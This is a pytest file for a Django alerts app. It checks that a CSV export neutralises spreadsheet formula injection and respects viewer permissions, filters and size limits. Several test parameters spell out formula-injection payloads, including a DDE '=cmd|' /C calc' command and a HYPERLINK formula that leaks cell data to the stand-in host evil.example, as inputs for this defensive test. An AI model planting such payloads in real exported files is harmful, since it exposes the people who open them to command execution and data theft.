"""A file for a spreadsheet holds no formula, whoever chose the names in it."""

import csv
import io
from typing import Any

import pytest
from django.test import AsyncClient

from alerts import api
from alerts.models import Alert
from livermore.csvfile import disarmed, line
from livermore.db import db
from market_data.models import Checkpoint
from tests import seeds
from tests.alerts.drafts import begin, commit, draft
from tests.people import person


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("\n=1", "'\n=1"),
        ("  =1", "'  =1"),
        ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
        ('=HYPERLINK("http://evil.example?"&A1,"x")', '\'=HYPERLINK("http://evil.example?"&A1,"x")'),
        ("\N{FULLWIDTH EQUALS SIGN}1", "'\N{FULLWIDTH EQUALS SIGN}1"),
        ("\0=1", "'=1"),
        ("BTC-USD", "BTC-USD"),
        ("a=1", "a=1"),
        ("", ""),
        (None, ""),
        (-1.5, -1.5),
        (0, 0),
    ],
)
def test_a_cell_is_disarmed(cell: Any, written: Any) -> None:
    assert disarmed(cell) == written


def test_a_cell_cannot_break_out_of_its_line() -> None:
    text = line(["a", "b"]) + line(['x","=1', "y\r\n=2"])
    assert list(csv.reader(io.StringIO(text, newline=""))) == [["a", "b"], ['x","=1', "y\r\n=2"]]


@pytest.fixture
def _alerts(transactional_db: None, redis_url: str) -> None:
    seeds.restore()
    begin("coinbase")
    Checkpoint.objects.create(exchange_id="coinbase", symbol="BTC-USD", timeframe="5m", open_time=0, indicator="[]")
    commit(draft(0, "level_150"))


def others(*changes: dict[str, Any]) -> None:
    """More alerts like the one there is, newer ones, each changed."""
    for number, change in enumerate(changes, 2):
        alert = Alert.objects.get(number=1)
        values = {"pk": None, "number": number, "uid": str(number), "triggered_at": alert.triggered_at + number, **change}
        for name, value in values.items():
            setattr(alert, name, value)
        alert.save()


async def exported(query: str = "") -> tuple[Any, list[dict[str, str]]]:
    """(the answer, its rows), read as the ASGI server reads it."""
    client = AsyncClient()
    await client.aforce_login(await db(person)("kaia", group="viewer", staff=False))
    answer = await client.get(f"/api/alerts/export.csv/{query}")
    text = "" if answer.status_code != 200 else b"".join([part async for part in answer.streaming_content]).decode()
    return answer, list(csv.DictReader(io.StringIO(text, newline="")))


@pytest.mark.usefixtures("_alerts")
async def test_the_export_of_alerts_has_what_the_user_may_see_disarmed() -> None:
    await db(others)({"symbol": "=cmd|'/C calc'!A0"}, {"symbol": "CANARYCOIN", "shared": False})
    answer, rows = await exported()
    assert (answer.status_code, answer.headers["Content-Type"]) == (200, "text/csv; charset=utf-8")
    assert answer.headers["Content-Disposition"] == 'attachment; filename="alerts.csv"'
    assert [row["symbol"] for row in rows] == ["'=cmd|'/C calc'!A0", "BTC-USD"]
    assert rows[1]["candle_time"].endswith(":00.000Z")


@pytest.mark.usefixtures("_alerts")
@pytest.mark.parametrize(("query", "ids"), [("?symbol=ETH-USD", ["3"]), ("?exchange=coinbase&since=2", ["3"]), ("?exchange=nowhere", None)])
async def test_the_filters_of_the_list_apply(query: str, ids: list[str] | None) -> None:
    await db(others)({}, {"symbol": "ETH-USD"})
    answer, rows = await exported(query)
    assert (answer.status_code, [row["id"] for row in rows]) == ((400, []) if ids is None else (200, ids))


@pytest.mark.usefixtures("_alerts")
async def test_the_export_is_bounded_and_read_in_parts(monkeypatch: pytest.MonkeyPatch) -> None:
    await db(others)(*[{} for _ in range(6)])
    monkeypatch.setattr(api, "EXPORTED_AT_MOST", 5)
    monkeypatch.setattr(api, "A_PART", 2)
    _, rows = await exported()
    assert [row["id"] for row in rows] == ["7", "6", "5", "4", "3"]
